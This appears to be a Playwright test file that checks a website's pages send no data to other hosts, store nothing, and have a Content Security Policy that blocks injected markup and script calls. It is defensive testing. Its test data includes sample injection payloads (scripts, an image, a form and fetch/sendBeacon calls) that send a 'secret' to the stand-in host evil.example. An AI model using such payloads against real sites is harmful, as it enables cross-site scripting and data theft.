import type { Page } from '@playwright/test';
import { allPages, contactForm, expect, home, missing, NOT_FOUND, test } from './fixtures.ts';

declare global {
  interface Window {
    /** The violations of the security policy, each as its directive and the blocked URL. */
    refused: string[];
  }
}

test.describe('Nothing is sent and nothing is stored', () => {
  test.use({ expectedErrors: [NOT_FOUND] });

  for (const path of allPages) {
    test(`by ${path} while its controls are used`, async ({ page, context, baseURL }) => {
      const own = new URL(baseURL ?? '').origin;
      const foreign: string[] = [];
      const carrying: string[] = [];
      context.on('request', (request) => {
        if (new URL(request.url()).origin !== own) foreign.push(request.url());
        if (request.method() !== 'GET' || request.url().includes('?')) carrying.push(request.url());
      });
      page.on('websocket', (socket) => foreign.push(socket.url()));
      await page.goto(path, { waitUntil: 'networkidle' });
      await useEverything(page);
      if (path === home) {
        const form = contactForm(page);
        await form.ready();
        await form.fill();
        await form.button.click();
        await expect(form.status).toHaveText(/sucesso/);
      }
      await page.waitForLoadState('networkidle');
      expect(foreign).toEqual([]);
      expect(carrying).toEqual([]);
      expect(await context.cookies()).toEqual([]);
      expect(
        await page.evaluate(async () => ({
          local: localStorage.length,
          session: sessionStorage.length,
          databases: await indexedDB.databases(),
          caches: await caches.keys(),
          workers: (await navigator.serviceWorker.getRegistrations()).length,
        })),
      ).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
    });
  }
});

/** Opens and closes the menu, focuses and hovers over links, and scrolls to the end of the page. Follows no link. */
async function useEverything(page: Page): Promise<void> {
  await page.setViewportSize({ width: 390, height: 844 });
  const menu = page.getByRole('button', { name: 'Menu' });
  await menu.click();
  await page.keyboard.press('Escape');
  for (const link of await page.getByRole('link').all()) {
    if (await link.isVisible()) await link.focus();
  }
  await page.setViewportSize({ width: 1280, height: 800 });
  for (const link of await page.getByRole('main').getByRole('link').all()) {
    if (await link.isVisible()) await link.hover();
  }
  await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
}

const EVIL = 'https://evil.example';

/** Markup that an attacker might inject, and the start of the expected violation: the directive and the blocked URL. */
const injected: [what: string, html: string, violation: string][] = [
  ['an inline script', '<script>document.title = "taken"</script>', 'script-src-elem inline'],
  ['a script of another host', `<script src="${EVIL}/x.js"></script>`, `script-src-elem ${EVIL}/x.js`],
  ['an inline handler', '<p tabindex="0" onfocus="document.title = `taken`" autofocus>x</p>', 'script-src-attr inline'],
  ['an inline style', '<style>main { display: none }</style>', 'style-src-elem inline'],
  ['an image of another host with data in its URL', `<img alt="" src="${EVIL}/?typed=secret">`, `img-src ${EVIL}`],
  ['a frame', `<iframe title="x" src="${EVIL}/"></iframe>`, `frame-src ${EVIL}`],
  ['a base URL of another host', `<base href="${EVIL}/">`, `base-uri ${EVIL}`],
  [
    'a form that posts',
    `<form method="post" action="${EVIL}/"><input name="typed" value="secret" aria-label="x"></form>`,
    `form-action ${EVIL}`,
  ],
];

/** Calls that an injected script might try, and the directive that blocks each call. */
const calls: [what: string, call: (address: string) => unknown, directive: string][] = [
  ['fetch', (address) => fetch(address).catch(() => {}), 'connect-src'],
  ['fetch to the site’s own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
  ['sendBeacon', (address) => void navigator.sendBeacon(address, 'typed'), 'connect-src'],
  ['a script URL', () => location.assign('javascript:document.title = "taken"'), 'script-src-elem'],
  [
    'markup assigned as a string',
    () => {
      try {
        document.body.innerHTML = '<p>taken</p>';
      } catch {}
    },
    'require-trusted-types-for',
  ],
];

/** A page of each kind. */
for (const path of [home, 'agentics', missing]) {
  test.describe(`The security policy of ${path} blocks`, () => {
    test.use({
      expectedErrors: [/policy: |Content Security Policy|Trusted|Fetch API cannot load|net::ERR|status of 404/],
    });

    test(`all injected markup: ${injected.map(([what]) => what).join('; ')}`, async ({ page }) => {
      const reached = await open(page, path, (body) =>
        body.replace('</main>', `${injected.map(([, markup]) => markup).join('')}</main>`),
      );
      await page.evaluate(() => [...document.forms].at(-1)?.requestSubmit());
      const refused = () => page.evaluate(() => window.refused);
      for (const [what, , violation] of injected) {
        await expect.soft.poll(refused, what).toContainEqual(expect.stringMatching(`^${violation}`));
      }
      expect(await page.title()).not.toBe('taken');
      expect(await page.evaluate(() => document.querySelector('main')?.checkVisibility())).toBe(true);
      expect(reached).toEqual([]);
    });

    test(`all calls of an injected script: ${calls.map(([what]) => what).join('; ')}`, async ({ page }) => {
      const reached = await open(page, path);
      for (const [what, call, directive] of calls) {
        await page.evaluate(() => window.refused.splice(0));
        await page.evaluate(call, EVIL);
        const refused = () => page.evaluate(() => window.refused);
        await expect.soft.poll(refused, what).toContainEqual(expect.stringMatching(`^${directive} `));
      }
      expect(await page.title()).not.toBe('taken');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(reached).toEqual([]);
    });
  });
}

test('no other site may frame a page', async ({ request }) => {
  for (const path of allPages) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
  }
});

/**
 * Opens a page whose HTML `change` has changed. Returns a list that collects the requests to the attacker's host, and the
 * requests with other methods than GET.
 */
async function open(page: Page, path: string, change = (body: string) => body): Promise<string[]> {
  const reached: string[] = [];
  await page.addInitScript(() => {
    window.refused = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.refused.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  // Requests that the policy blocks never reach this handler.
  await page.context().route('**', async (route) => {
    const request = route.request();
    if (request.url().startsWith(EVIL) || request.method() !== 'GET') {
      reached.push(request.url());
      return route.abort();
    }
    if (!request.isNavigationRequest()) return route.fallback();
    const response = await route.fetch();
    return route.fulfill({ response, body: change(await response.text()) });
  });
  await page.goto(path);
  return reached;
}
